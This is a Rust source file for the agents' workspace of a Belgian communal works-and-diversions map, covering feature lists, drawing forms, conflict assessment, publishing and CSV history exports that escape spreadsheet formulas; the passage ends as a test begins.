//! The agents' workspace `/agent`: the commune's features (internal ones too) in a list
//! with filters and on a map; creating and editing works, diversions, parking bans,
//! events and occupations by drawing on the map (terra-draw) or typing coordinates;
//! publishing; each feature's history; and conflicts — shown as the agent draws (or on
//! "Vérifier les conflits" without JavaScript), listed on `/agent/conflits`, and
//! assessed per commune.
//!
//! Every page needs a person signed in (`Actor::Account`); what they see and change is
//! decided by `policy` through `App`, as for the API.

use std::sync::Arc;

use axum::Form;
use axum::extract::{Path, Query, State};
use axum::http::StatusCode;
use axum::response::{IntoResponse, Redirect, Response};
use chrono::{DateTime, NaiveTime};
use serde::{Deserialize, Serialize};
use uuid::Uuid;

use super::carte::{day, fold, status_group};
use super::formulaire::{self, DRAWN, Fields, FormView};
use super::i18n::Lang;
use super::pages::CommuneView;
use super::words::Words;
use super::{Ctx, FieldErr};
use crate::api::Web;
use crate::conflicts::{Found, Listed};
use crate::error::Error;
use crate::index::{Entry, Query as IndexQuery};
use crate::model::conflict::Verdict;
use crate::model::schedule::{LOCAL_TZ, OPEN_END, local_to_utc};
use crate::model::{Kind, TimeFilter, Visibility};
use crate::policy::Actor;

const PAGE_SIZE: usize = 50;

/// An instant (Unix seconds) as "28/11/2026 14:05", Brussels time.
pub fn local_time(t: i64) -> String {
    DateTime::from_timestamp(t, 0)
        .map(|d| {
            d.with_timezone(&LOCAL_TZ)
                .format("%d/%m/%Y %H:%M")
                .to_string()
        })
        .unwrap_or_default()
}

fn commune_name(web: &Web, lang: Lang, nis: &str) -> String {
    web.app
        .territory()
        .get(nis)
        .map_or(nis.to_string(), |c| c.name(lang.code()).to_string())
}

use super::{my_communes, sign_in_first};

#[derive(Serialize)]
struct Row {
    id: String,
    kind: &'static str,
    title: String,
    commune: String,
    when: Vec<String>,
    status: String,
    status_group: &'static str,
    internal: bool,
    conflicts: usize,
    bbox: [f64; 4],
}

fn row(web: &Web, lang: Lang, words: &Words<'_>, e: &Entry, conflicts: usize) -> Row {
    let f = &e.feature;
    Row {
        id: f.id.to_string(),
        kind: f.kind.as_str(),
        title: f.title.clone(),
        commune: commune_name(web, lang, &f.commune),
        when: words.schedule(&f.schedule),
        status: web.ui.t(lang, &format!("status-{}", f.status)),
        status_group: status_group(&f.status),
        internal: f.visibility == Visibility::Internal,
        conflicts,
        bbox: [
            e.bbox.min().x,
            e.bbox.min().y,
            e.bbox.max().x,
            e.bbox.max().y,
        ],
    }
}

#[derive(Deserialize, Serialize, Default)]
pub struct Filters {
    #[serde(default)]
    quoi: String,
    #[serde(default)]
    statut: String,
    #[serde(default)]
    commune: String,
    #[serde(default)]
    q: String,
    #[serde(default)]
    du_j: String,
    #[serde(default)]
    du_m: String,
    #[serde(default)]
    du_a: String,
    #[serde(default)]
    au_j: String,
    #[serde(default)]
    au_m: String,
    #[serde(default)]
    au_a: String,
    #[serde(default)]
    page: Option<usize>,
}

#[derive(Serialize)]
struct Opt {
    value: String,
    label: String,
}

#[derive(Serialize)]
struct ListPage<'a> {
    communes: Vec<CommuneView>,
    mine: Vec<CommuneView>,
    f: &'a Filters,
    kinds: Vec<Opt>,
    statuses: Vec<Opt>,
    errors: Vec<FieldErr>,
    rows: Vec<Row>,
    count: usize,
    page: usize,
    pages: usize,
    prev: Option<String>,
    next: Option<String>,
    bounds: [f64; 4],
    maplibre: String,
    maplibre_css: String,
    script: String,
    drawn: Vec<Opt>,
}

fn kind_options(web: &Web, lang: Lang, kinds: &[Kind]) -> Vec<Opt> {
    kinds
        .iter()
        .map(|k| Opt {
            value: k.as_str().into(),
            label: web.ui.t(lang, &format!("kind-one-{}", k.as_str())),
        })
        .collect()
}

fn status_options(web: &Web, lang: Lang, kind: Option<Kind>) -> Vec<Opt> {
    kind.unwrap_or(Kind::Works)
        .statuses()
        .iter()
        .map(|s| Opt {
            value: s.to_string(),
            label: web.ui.t(lang, &format!("status-{s}")),
        })
        .collect()
}

fn page_link(f: &Filters, page: usize) -> String {
    let mut q: Vec<(String, String)> = serde_html_form::from_str::<Vec<(String, String)>>(
        &serde_html_form::to_string(f).unwrap_or_default(),
    )
    .unwrap_or_default()
    .into_iter()
    .filter(|(k, v)| k != "page" && !v.is_empty())
    .collect();
    q.push(("page".into(), page.to_string()));
    format!(
        "/agent?{}",
        serde_html_form::to_string(&q).unwrap_or_default()
    )
}

/// `GET /agent`: the list (and map) of the person's communes' features.
pub async fn list(
    State(web): State<Web>,
    ctx: Ctx,
    actor: Actor,
    Query(f): Query<Filters>,
) -> Response {
    if let Some(r) = sign_in_first(&actor, &ctx) {
        return r;
    }
    let lang = ctx.lang;
    let t = |k: &str| web.ui.t(lang, k);
    let mut errors = Vec::new();
    let mine = my_communes(&web, &ctx, &actor);
    let mut q = IndexQuery {
        internal: actor.scope(),
        ..Default::default()
    };
    if let Some(k) = Kind::parse(&f.quoi) {
        q.kinds = k.bit();
    }
    if mine.iter().any(|c| c.nis == f.commune) {
        q.commune = Some(f.commune.clone());
    }
    let bound = |j: &str, m: &str, a: &str, field: &'static str, errors: &mut Vec<FieldErr>| {
        if j.is_empty() && m.is_empty() && a.is_empty() {
            return None;
        }
        let d = day(j, m, a);
        if d.is_none() {
            errors.push(FieldErr {
                field: field.into(),
                message: t("form-error-date"),
            });
        }
        d
    };
    let from = bound(&f.du_j, &f.du_m, &f.du_a, "du_j", &mut errors);
    let to = bound(&f.au_j, &f.au_m, &f.au_a, "au_j", &mut errors);
    if from.is_some() || to.is_some() {
        let start = from.map_or(i64::MIN, |d| {
            local_to_utc(d.and_time(NaiveTime::MIN)).timestamp()
        });
        let end = to.map_or(OPEN_END, |d| {
            local_to_utc((d + chrono::Duration::days(1)).and_time(NaiveTime::MIN)).timestamp()
        });
        if end <= start {
            errors.push(FieldErr {
                field: "au_j".into(),
                message: t("form-error-end-before-start"),
            });
        } else {
            q.time = TimeFilter::Range(start, end);
        }
    }
    let words_q = fold(f.q.trim());
    let nis: Vec<String> = mine.iter().map(|c| c.nis.clone()).collect();
    let mut matched: Vec<Arc<Entry>> = web
        .app
        .query(&q)
        .into_iter()
        .filter(|e| nis.contains(&e.feature.commune))
        .filter(|e| f.statut.is_empty() || e.feature.status == f.statut)
        .filter(|e| {
            words_q.is_empty()
                || fold(&e.feature.title).contains(&words_q)
                || fold(&e.feature.description).contains(&words_q)
        })
        .collect();
    // coming first: by first start, then title
    matched.sort_by(|a, b| {
        let s = |e: &Entry| e.intervals.first().map_or(i64::MAX, |i| i.start);
        s(a).cmp(&s(b))
            .then_with(|| a.feature.title.cmp(&b.feature.title))
    });
    let count = matched.len();
    let pages = count.div_ceil(PAGE_SIZE).max(1);
    let page = f.page.unwrap_or(1).clamp(1, pages);
    let words = Words::new(&web.ui.i18n, lang, crate::clock::now());
    let territory = web.app.territory();
    let rows = matched
        .iter()
        .skip((page - 1) * PAGE_SIZE)
        .take(PAGE_SIZE)
        .map(|e| {
            let n = web.app.with_index(|index| {
                crate::conflicts::find(index, &territory, &crate::conflicts::Subject::of(e)).len()
            });
            row(&web, lang, &words, e, n)
        })
        .collect();
    let b = territory
        .active_bounds()
        .map_or([4.0, 50.5, 4.3, 50.7], |r| {
            [r.min().x, r.min().y, r.max().x, r.max().y]
        });
    let status = super::form_status(&errors);
    web.ui.render(
        &ctx,
        status,
        "agent.html",
        ListPage {
            communes: super::pages::communes(&web, lang),
            mine,
            f: &f,
            kinds: kind_options(&web, lang, &Kind::ALL),
            statuses: {
                let mut all = status_options(&web, lang, Some(Kind::Works));
                all.extend(status_options(&web, lang, Some(Kind::Report)));
                all.dedup_by(|a, b| a.value == b.value);
                all
            },
            errors,
            rows,
            count,
            page,
            pages,
            prev: (page > 1).then(|| page_link(&f, page - 1)),
            next: (page < pages).then(|| page_link(&f, page + 1)),
            bounds: b,
            maplibre: web.ui.assets.versioned("maplibre-gl.mjs"),
            maplibre_css: web.ui.assets.versioned("maplibre-gl.css"),
            script: web.ui.assets.versioned("agent.js"),
            drawn: kind_options(&web, lang, &DRAWN),
        },
    )
}

#[derive(Serialize)]
struct ConflictView {
    id: String,
    other_id: String,
    /// The other feature's id in the tiles, to pick it out on the map.
    other_tile_id: u64,
    other_kind: &'static str,
    other_title: String,
    other_commune: String,
    subject_title: String,
    when: String,
    distance: String,
    standings: Vec<StandingView>,
}

#[derive(Serialize)]
struct StandingView {
    commune: String,
    nis: String,
    state: &'static str,
    note: String,
    by: String,
    at: String,
    /// Earlier assessments of the commune, latest first.
    earlier: Vec<RecordedView>,
    may_assess: bool,
}

#[derive(Serialize)]
struct RecordedView {
    verdict: &'static str,
    note: String,
    by: String,
    at: String,
}

fn recorded_view(r: &crate::model::conflict::Recorded) -> RecordedView {
    RecordedView {
        verdict: r.verdict.as_str(),
        note: r.note.clone(),
        by: r.actor.trim_start_matches("user:").to_string(),
        at: local_time(r.at),
    }
}

/// A conflict for the page; `subject` is `None` for a draft not saved yet.
fn conflict_view(
    web: &Web,
    lang: Lang,
    actor: &Actor,
    subject: Option<&Entry>,
    subject_title: &str,
    f: &Found,
    standings: &[crate::conflicts::Standing],
) -> ConflictView {
    let o = &f.other.feature;
    ConflictView {
        id: subject
            .map(|s| s.feature.id.to_string())
            .unwrap_or_default(),
        other_id: o.id.to_string(),
        other_tile_id: crate::tiles::render::feature_id(&o.id),
        other_kind: o.kind.as_str(),
        other_title: o.title.clone(),
        other_commune: commune_name(web, lang, &o.commune),
        subject_title: subject_title.to_string(),
        when: web.ui.i18n.tf(
            lang,
            "conflict-when",
            &[
                ("start", local_time(f.clash.overlap.start).into()),
                (
                    "end",
                    if f.clash.overlap.end == OPEN_END {
                        web.ui.t(lang, "conflict-open-end")
                    } else {
                        local_time(f.clash.overlap.end)
                    }
                    .into(),
                ),
            ],
        ),
        distance: web.ui.i18n.tf(
            lang,
            "conflict-distance",
            &[("metres", (f.clash.distance_m.round() as i64).into())],
        ),
        standings: standings
            .iter()
            .map(|s| {
                let latest = s.latest.as_ref().map(recorded_view);
                StandingView {
                    commune: commune_name(web, lang, &s.commune),
                    nis: s.commune.clone(),
                    state: s.state.as_str(),
                    note: latest.as_ref().map(|l| l.note.clone()).unwrap_or_default(),
                    by: latest.as_ref().map(|l| l.by.clone()).unwrap_or_default(),
                    at: latest.map(|l| l.at).unwrap_or_default(),
                    earlier: s.earlier.iter().rev().map(recorded_view).collect(),
                    may_assess: actor.may_assess(&s.commune),
                }
            })
            .collect(),
    }
}

fn listed_views(web: &Web, lang: Lang, actor: &Actor, listed: &[Listed]) -> Vec<ConflictView> {
    listed
        .iter()
        .map(|l| {
            conflict_view(
                web,
                lang,
                actor,
                Some(&l.subject),
                &l.subject.feature.title,
                &l.found,
                &l.standings,
            )
        })
        .collect()
}

#[derive(Serialize)]
struct HistoryView {
    version: i64,
    action: String,
    by: String,
    at: String,
    fields: String,
}

#[derive(Serialize)]
struct ServeOption {
    id: String,
    title: String,
    chosen: bool,
}

#[derive(Serialize)]
struct FormPage {
    communes: Vec<CommuneView>,
    errors: Vec<FieldErr>,
    v: FormView,
    id: Option<String>,
    kinds: Vec<Opt>,
    statuses: Vec<Opt>,
    works: Vec<ServeOption>,
    projects: Vec<Opt>,
    /// The tasks attached to this feature.
    tasks: Vec<Opt>,
    /// The commune's task templates, to make a task for this feature.
    templates: Vec<Opt>,
    days: Vec<Opt>,
    /// Conflicts found by "Vérifier" (before saving), or those of the stored feature.
    preview: Option<Vec<ConflictView>>,
    conflicts: Vec<ConflictView>,
    history: Vec<HistoryView>,
    signage_hours: Option<i64>,
    done: Option<&'static str>,
    bounds: [f64; 4],
    maplibre: String,
    maplibre_css: String,
    /// Where `import 'terra-draw'` (in the adapter) finds it: JSON of our own asset
    /// addresses, with `<` escaped so it cannot close the script element.
    importmap: String,
    terra_adapter: String,
    script: String,
    public_url: Option<String>,
}

struct FormExtras {
    id: Option<Uuid>,
    preview: Option<Vec<ConflictView>>,
    done: Option<&'static str>,
}

async fn form_page(
    web: &Web,
    ctx: &Ctx,
    actor: &Actor,
    status: StatusCode,
    errors: Vec<FieldErr>,
    v: FormView,
    extras: FormExtras,
) -> Response {
    let lang = ctx.lang;
    let kind = Kind::parse(&v.kind);
    let (mut conflicts, mut history, mut signage_hours, mut bounds) =
        (Vec::new(), Vec::new(), None, None);
    let mut public_url = None;
    if let Some(id) = extras.id
        && let Ok(entry) = web.app.get(id, actor)
    {
        if let Ok(listed) = web.app.conflicts(id, actor).await {
            conflicts = listed_views(web, lang, actor, &listed);
        }
        if let Ok(h) = web.app.history(id, actor).await {
            history = h
                .iter()
                .rev()
                .map(|e| HistoryView {
                    version: e.version,
                    action: web.ui.t(lang, &format!("history-{}", e.action)),
                    by: e.actor.trim_start_matches("user:").to_string(),
                    at: local_time(e.at.timestamp()),
                    fields: e
                        .changes
                        .as_object()
                        .map(|o| o.keys().map(String::as_str).collect::<Vec<_>>().join(", "))
                        .unwrap_or_default(),
                })
                .collect();
        }
        signage_hours = formulaire::signage_short(&entry.feature);
        let b = entry.bbox;
        bounds = Some([b.min().x, b.min().y, b.max().x, b.max().y]);
        if entry.feature.visibility == Visibility::Public {
            public_url = Some(format!("/carte/{id}"));
        }
    }
    let territory = web.app.territory();
    let bounds = bounds.unwrap_or_else(|| {
        territory
            .active_bounds()
            .map_or([4.0, 50.5, 4.3, 50.7], |r| {
                [r.min().x, r.min().y, r.max().x, r.max().y]
            })
    });
    // works a diversion may serve: current or coming, in the person's communes
    let works = if kind == Some(Kind::Diversion) {
        let now = crate::clock::now().timestamp();
        let mut w: Vec<ServeOption> = web
            .app
            .query(&IndexQuery {
                kinds: Kind::Works.bit(),
                internal: actor.scope(),
                time: TimeFilter::Range(now, OPEN_END),
                ..Default::default()
            })
            .into_iter()
            .filter(|e| actor.sees_internal(&e.feature.commune))
            .take(300)
            .map(|e| ServeOption {
                id: e.feature.id.to_string(),
                title: e.feature.title.clone(),
                chosen: v.serves.contains(&e.feature.id.to_string()),
            })
            .collect();
        w.sort_by(|a, b| a.title.cmp(&b.title));
        w
    } else {
        Vec::new()
    };
    let mut projects = Vec::new();
    for c in territory.active().filter(|c| actor.sees_internal(&c.nis)) {
        for p in web.app.projects_of(actor, &c.nis).await.unwrap_or_default() {
            projects.push(Opt {
                value: p.id.to_string(),
                label: format!("{} ({})", p.name, c.name(lang.code())),
            });
        }
    }
    let a = &web.ui.assets;
    web.ui.render(
        ctx,
        status,
        "agent-element.html",
        FormPage {
            communes: super::pages::communes(web, lang),
            errors,
            id: extras.id.map(|i| i.to_string()),
            kinds: kind_options(web, lang, &DRAWN),
            statuses: status_options(web, lang, kind),
            works,
            projects,
            templates: match extras.id.and_then(|id| web.app.get(id, actor).ok()) {
                Some(e) if actor.may_write(&e.feature.commune) => web
                    .app
                    .templates_of(actor, &e.feature.commune)
                    .await
                    .unwrap_or_default()
                    .into_iter()
                    .map(|t| Opt {
                        value: t.id.to_string(),
                        label: t.name,
                    })
                    .collect(),
                _ => Vec::new(),
            },
            tasks: match extras.id {
                Some(id) => web
                    .app
                    .store
                    .tasks(None, Some(id))
                    .await
                    .unwrap_or_default()
                    .into_iter()
                    .filter(|t| actor.sees_internal(&t.commune))
                    .map(|t| Opt {
                        value: t.id.to_string(),
                        label: format!(
                            "{} – {}",
                            t.title,
                            web.ui.t(lang, &format!("task-status-{}", t.status))
                        ),
                    })
                    .collect(),
                None => Vec::new(),
            },
            days: formulaire::DAYS
                .iter()
                .enumerate()
                .map(|(i, (n, _))| Opt {
                    value: n.to_string(),
                    label: web.ui.t(lang, &format!("weekday-{}", i + 1)),
                })
                .collect(),
            preview: extras.preview,
            conflicts,
            history,
            signage_hours,
            done: extras.done,
            bounds,
            maplibre: a.versioned("maplibre-gl.mjs"),
            maplibre_css: a.versioned("maplibre-gl.css"),
            importmap: web.ui.importmap.clone(),
            terra_adapter: a.versioned("terra-draw-maplibre-gl-adapter.js"),
            script: a.versioned("dessin.js"),
            public_url,
            v: v.with_spare_rows(),
        },
    )
}

#[derive(Deserialize)]
pub struct NewQuery {
    #[serde(default)]
    kind: String,
}

/// `GET /agent/nouveau?kind=works`
pub async fn new_form(
    State(web): State<Web>,
    ctx: Ctx,
    actor: Actor,
    Query(q): Query<NewQuery>,
) -> Response {
    if let Some(r) = sign_in_first(&actor, &ctx) {
        return r;
    }
    let kind = Kind::parse(&q.kind)
        .filter(|k| DRAWN.contains(k))
        .unwrap_or(Kind::Works);
    let extras = FormExtras {
        id: None,
        preview: None,
        done: None,
    };
    form_page(
        &web,
        &ctx,
        &actor,
        StatusCode::OK,
        Vec::new(),
        FormView::new(kind),
        extras,
    )
    .await
}

/// `?fait=…`: what the page just did, to say so.
#[derive(Deserialize)]
pub struct DoneQuery {
    pub fait: Option<String>,
}

/// `GET /agent/element/{id}`: the feature's form, its conflicts and its history.
pub async fn element(
    State(web): State<Web>,
    ctx: Ctx,
    actor: Actor,
    Path(id): Path<String>,
    Query(q): Query<DoneQuery>,
) -> Response {
    if let Some(r) = sign_in_first(&actor, &ctx) {
        return r;
    }
    let Some(entry) = Uuid::parse_str(&id)
        .ok()
        .and_then(|id| web.app.get(id, &actor).ok())
        .filter(|e| actor.sees_internal(&e.feature.commune))
    else {
        return super::not_found(&web, &ctx);
    };
    let done = match q.fait.as_deref() {
        Some("cree") => Some("element-done-created"),
        Some("enregistre") => Some("element-done-saved"),
        Some("publie") => Some("element-done-published"),
        Some("retire") => Some("element-done-unpublished"),
        Some("evalue") => Some("element-done-assessed"),
        _ => None,
    };
    let extras = FormExtras {
        id: Some(entry.feature.id),
        preview: None,
        done,
    };
    form_page(
        &web,
        &ctx,
        &actor,
        StatusCode::OK,
        Vec::new(),
        formulaire::of_feature(&entry.feature),
        extras,
    )
    .await
}

/// Reads the form, checks it, and either shows the conflicts it would have ("verifier")
/// or saves it. `id` is the feature edited, `None` for a new one.
async fn submit(web: &Web, ctx: &Ctx, actor: &Actor, id: Option<Uuid>, fields: Fields) -> Response {
    if let Some(r) = super::refused(web, ctx, actor, fields.get("csrf")) {
        return r;
    }
    let lang = ctx.lang;
    let v = formulaire::read(&fields);
    let extras = |preview, done| FormExtras { id, preview, done };
    let d = match formulaire::draft(&v) {
        Ok(d) => d,
        Err(faults) => {
            let errors = formulaire::messages(&web.ui.i18n, lang, faults);
            return form_page(
                web,
                ctx,
                actor,
                StatusCode::BAD_REQUEST,
                errors,
                v,
                extras(None, None),
            )
            .await;
        }
    };
    let fail = |e: Error| -> Vec<FieldErr> {
        match e {
            Error::Invalid(errs) | Error::BadRequest(errs) => {
                formulaire::messages(&web.ui.i18n, lang, formulaire::faults_of(&errs))
            }
            Error::Forbidden => vec![FieldErr {
                field: "coordonnees".into(),
                message: web.ui.t(lang, "form-error-forbidden"),
            }],
            Error::PreconditionFailed { .. } => vec![FieldErr {
                field: "title".into(),
                message: web.ui.t(lang, "form-error-stale"),
            }],
            other => {
                tracing::error!(error = %other, "cannot save a feature");
                vec![FieldErr {
                    field: "title".into(),
                    message: web.ui.t(lang, "form-error-unavailable"),
                }]
            }
        }
    };
    if fields.get("action") == "verifier" {
        return match web.app.preview_conflicts(&d, id, actor).await {
            Ok(found) => {
                let views = found
                    .iter()
                    .map(|f| conflict_view(web, lang, actor, None, &d.title, f, &[]))
                    .collect();
                form_page(
                    web,
                    ctx,
                    actor,
                    StatusCode::OK,
                    Vec::new(),
                    v,
                    extras(Some(views), None),
                )
                .await
            }
            Err(e) => {
                form_page(
                    web,
                    ctx,
                    actor,
                    StatusCode::BAD_REQUEST,
                    fail(e),
                    v,
                    extras(None, None),
                )
                .await
            }
        };
    }
    let saved = match id {
        None => web.app.create(d, actor).await,
        Some(id) => web.app.update(id, d, v.version, actor).await,
    };
    match saved {
        Err(Error::NotFound(_)) => super::not_found(web, ctx),
        Ok(f) => Redirect::to(&format!(
            "/agent/element/{}?fait={}",
            f.id,
            if id.is_some() { "enregistre" } else { "cree" }
        ))
        .into_response(),
        Err(e) => {
            let status = match &e {
                Error::PreconditionFailed { .. } => StatusCode::CONFLICT,
                Error::Forbidden => StatusCode::FORBIDDEN,
                _ => StatusCode::BAD_REQUEST,
            };
            form_page(web, ctx, actor, status, fail(e), v, extras(None, None)).await
        }
    }
}

/// `POST /agent/nouveau`
pub async fn create(
    State(web): State<Web>,
    ctx: Ctx,
    actor: Actor,
    Form(fields): Form<Vec<(String, String)>>,
) -> Response {
    submit(&web, &ctx, &actor, None, Fields(fields)).await
}

/// `POST /agent/element/{id}`
pub async fn save(
    State(web): State<Web>,
    ctx: Ctx,
    actor: Actor,
    Path(id): Path<String>,
    Form(fields): Form<Vec<(String, String)>>,
) -> Response {
    let Ok(id) = Uuid::parse_str(&id) else {
        return super::not_found(&web, &ctx);
    };
    submit(&web, &ctx, &actor, Some(id), Fields(fields)).await
}

#[derive(Serialize)]
struct PreviewFragment {
    preview: Vec<ConflictView>,
    errors: Vec<FieldErr>,
}

/// `POST /agent/apercu`: the conflicts of the form as it stands, as an HTML fragment the
/// drawing script puts in the page while the agent draws.
pub async fn preview(
    State(web): State<Web>,
    ctx: Ctx,
    actor: Actor,
    Form(fields): Form<Vec<(String, String)>>,
) -> Response {
    let fields = Fields(fields);
    if !ctx.csrf_ok(fields.get("csrf")) {
        return super::forged(&web, &ctx);
    }
    if actor.person().is_none() {
        return Error::Unauthorized.into_response();
    }
    let lang = ctx.lang;
    let id = Uuid::parse_str(fields.get("id")).ok();
    let v = formulaire::read(&fields);
    let (preview, errors) = match formulaire::draft(&v) {
        Err(faults) => (Vec::new(), formulaire::messages(&web.ui.i18n, lang, faults)),
        Ok(d) => match web.app.preview_conflicts(&d, id, &actor).await {
            Ok(found) => (
                found
                    .iter()
                    .map(|f| conflict_view(&web, lang, &actor, None, &d.title, f, &[]))
                    .collect(),
                Vec::new(),
            ),
            Err(Error::Invalid(e)) => (
                Vec::new(),
                formulaire::messages(&web.ui.i18n, lang, formulaire::faults_of(&e)),
            ),
            Err(_) => (Vec::new(), Vec::new()),
        },
    };
    web.ui.render(
        &ctx,
        StatusCode::OK,
        "apercu.html",
        PreviewFragment { preview, errors },
    )
}

#[derive(Deserialize)]
pub struct VisibilityForm {
    #[serde(default)]
    csrf: String,
    #[serde(default)]
    public: String,
    #[serde(default)]
    version: i64,
}

/// `POST /agent/element/{id}/visibilite`: publishes the feature on the public map, or
/// takes it back.
pub async fn visibility(
    State(web): State<Web>,
    ctx: Ctx,
    actor: Actor,
    Path(id): Path<String>,
    Form(form): Form<VisibilityForm>,
) -> Response {
    if let Some(r) = super::refused(&web, &ctx, &actor, &form.csrf) {
        return r;
    }
    let Some(entry) = Uuid::parse_str(&id)
        .ok()
        .and_then(|id| web.app.get(id, &actor).ok())
    else {
        return super::not_found(&web, &ctx);
    };
    let f = &entry.feature;
    let publish = form.public == "oui";
    let draft = crate::model::FeatureDraft {
        visibility: if publish {
            Visibility::Public
        } else {
            Visibility::Internal
        },
        ..f.draft()
    };
    match web.app.update(f.id, draft, form.version, &actor).await {
        Ok(_) => Redirect::to(&format!(
            "/agent/element/{}?fait={}",
            f.id,
            if publish { "publie" } else { "retire" }
        ))
        .into_response(),
        Err(Error::Forbidden) => super::forbidden(&web, &ctx),
        Err(Error::PreconditionFailed { .. }) => super::message(
            &web,
            &ctx,
            StatusCode::CONFLICT,
            "stale-title",
            "stale-text",
        ),
        Err(e) => {
            tracing::error!(error = %e, "cannot change visibility");
            super::message(
                &web,
                &ctx,
                StatusCode::SERVICE_UNAVAILABLE,
                "unavailable-title",
                "unavailable-text",
            )
        }
    }
}

#[derive(Deserialize, Default)]
pub struct ConflictsQuery {
    #[serde(default)]
    commune: String,
    fait: Option<String>,
}

#[derive(Serialize)]
struct ConflictsPage {
    communes: Vec<CommuneView>,
    mine: Vec<CommuneView>,
    commune: String,
    commune_name: String,
    open: Vec<ConflictView>,
    settled: Vec<ConflictView>,
    open_count: usize,
    settled_count: usize,
    shown_max: usize,
    done: bool,
}

/// Conflicts listed per section of the conflicts page, the soonest first: a page an
/// agent can read (each has its own form), whatever the size of the dataset.
const CONFLICTS_SHOWN: usize = 100;

/// `GET /agent/conflits`: the conflicts of one of the person's communes, those still to
/// assess first.
pub async fn conflicts(
    State(web): State<Web>,
    ctx: Ctx,
    actor: Actor,
    Query(q): Query<ConflictsQuery>,
) -> Response {
    if let Some(r) = sign_in_first(&actor, &ctx) {
        return r;
    }
    let lang = ctx.lang;
    let mine = my_communes(&web, &ctx, &actor);
    let Some(commune) = mine
        .iter()
        .find(|c| c.nis == q.commune)
        .or(mine.first())
        .map(|c| c.nis.clone())
    else {
        return super::forbidden(&web, &ctx);
    };
    let listed = match web.app.commune_conflicts(&commune, &actor).await {
        Ok(l) => l,
        Err(e) => {
            tracing::error!(error = %e, "cannot list conflicts");
            return super::message(
                &web,
                &ctx,
                StatusCode::SERVICE_UNAVAILABLE,
                "unavailable-title",
                "unavailable-text",
            );
        }
    };
    let (open, settled): (Vec<Listed>, Vec<Listed>) = listed.into_iter().partition(|l| {
        l.standings
            .iter()
            .any(|s| s.commune == commune && s.state.open())
    });
    web.ui.render(
        &ctx,
        StatusCode::OK,
        "agent-conflits.html",
        ConflictsPage {
            communes: super::pages::communes(&web, lang),
            commune_name: commune_name(&web, lang, &commune),
            commune,
            mine,
            open_count: open.len(),
            settled_count: settled.len(),
            shown_max: CONFLICTS_SHOWN,
            open: listed_views(&web, lang, &actor, &open[..open.len().min(CONFLICTS_SHOWN)]),
            settled: listed_views(
                &web,
                lang,
                &actor,
                &settled[..settled.len().min(CONFLICTS_SHOWN)],
            ),
            done: q.fait.is_some(),
        },
    )
}

#[derive(Deserialize)]
pub struct AssessForm {
    #[serde(default)]
    csrf: String,
    #[serde(default)]
    id: String,
    #[serde(default)]
    other: String,
    #[serde(default)]
    commune: String,
    #[serde(default)]
    verdict: String,
    #[serde(default)]
    note: String,
    #[serde(default)]
    retour: String,
}

/// `POST /agent/conflits/evaluer`: records the commune's assessment of a conflict.
pub async fn assess(
    State(web): State<Web>,
    ctx: Ctx,
    actor: Actor,
    Form(form): Form<AssessForm>,
) -> Response {
    if let Some(r) = super::refused(&web, &ctx, &actor, &form.csrf) {
        return r;
    }
    let (Ok(id), Ok(other)) = (Uuid::parse_str(&form.id), Uuid::parse_str(&form.other)) else {
        return super::not_found(&web, &ctx);
    };
    let Some(verdict) = Verdict::parse(&form.verdict) else {
        return super::message(
            &web,
            &ctx,
            StatusCode::BAD_REQUEST,
            "assess-error-title",
            "assess-error-verdict",
        );
    };
    let commune = Some(form.commune.as_str()).filter(|c| !c.is_empty());
    match web
        .app
        .assess(&actor, id, other, commune, verdict, &form.note)
        .await
    {
        Ok(_) => {
            let back = super::compte::safe_return(Some(&form.retour));
            let sep = if back.contains('?') { '&' } else { '?' };
            Redirect::to(&format!("{back}{sep}fait=evalue")).into_response()
        }
        Err(Error::Forbidden) => super::forbidden(&web, &ctx),
        Err(Error::NotFound(_)) => super::not_found(&web, &ctx),
        Err(Error::Invalid(_)) => super::message(
            &web,
            &ctx,
            StatusCode::BAD_REQUEST,
            "assess-error-title",
            "assess-error-note",
        ),
        Err(e) => {
            tracing::error!(error = %e, "cannot record an assessment");
            super::message(
                &web,
                &ctx,
                StatusCode::SERVICE_UNAVAILABLE,
                "unavailable-title",
                "unavailable-text",
            )
        }
    }
}

/// An object's history as CSV (version, what, who, when, what changed), for the
/// commune's own records: a download, not a page.
pub fn history_csv(
    name: &str,
    rows: impl Iterator<Item = (i64, String, String, String, String)>,
) -> Response {
    csv_download(
        name,
        &["version", "action", "by", "at", "changes"],
        rows.map(|(version, action, by, at, changes)| {
            vec![version.to_string(), action, by, at, changes]
        }),
    )
}

/// A cell as a spreadsheet may read it without running it: text that starts like a
/// formula (`=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading apostrophe,
/// which spreadsheets show as text. Any name or comment typed by someone else reaches
/// the admin's spreadsheet through these exports.
fn spreadsheet_safe(cell: &str) -> String {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}"),
        _ => cell.to_string(),
    }
}

/// Rows under a header as a CSV download named `name.csv`, every cell spreadsheet-safe.
pub fn csv_download(
    name: &str,
    header: &[&str],
    rows: impl Iterator<Item = Vec<String>>,
) -> Response {
    let write = || -> Result<Vec<u8>, csv::Error> {
        let mut w = csv::Writer::from_writer(Vec::new());
        w.write_record(header)?;
        for row in rows {
            w.write_record(row.iter().map(|cell| spreadsheet_safe(cell)))?;
        }
        w.into_inner().map_err(|e| e.into_error().into())
    };
    match write() {
        Ok(bytes) => (
            [
                (
                    axum::http::header::CONTENT_TYPE,
                    "text/csv; charset=utf-8".to_string(),
                ),
                (
                    axum::http::header::CONTENT_DISPOSITION,
                    format!("attachment; filename=\"{name}.csv\""),
                ),
                (
                    axum::http::header::CACHE_CONTROL,
                    "private, no-store".to_string(),
                ),
            ],
            bytes,
        )
            .into_response(),
        Err(e) => Error::Internal(e.into()).into_response(),
    }
}

/// `GET /agent/element/{id}/historique.csv`
pub async fn history_export(
    State(web): State<Web>,
    ctx: Ctx,
    actor: Actor,
    Path(id): Path<String>,
) -> Response {
    if let Some(r) = sign_in_first(&actor, &ctx) {
        return r;
    }
    let Ok(id) = Uuid::parse_str(&id) else {
        return super::not_found(&web, &ctx);
    };
    match web.app.history(id, &actor).await {
        Ok(h) => history_csv(
            &format!("historique-{id}"),
            h.into_iter().map(|e| {
                (
                    e.version,
                    e.action,
                    e.actor,
                    e.at.to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
                    e.changes.to_string(),
                )
            }),
        ),
        Err(_) => super::not_found(&web, &ctx),
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn formulas_reach_spreadsheets_as_text() {
        for (cell, safe) in [
            (
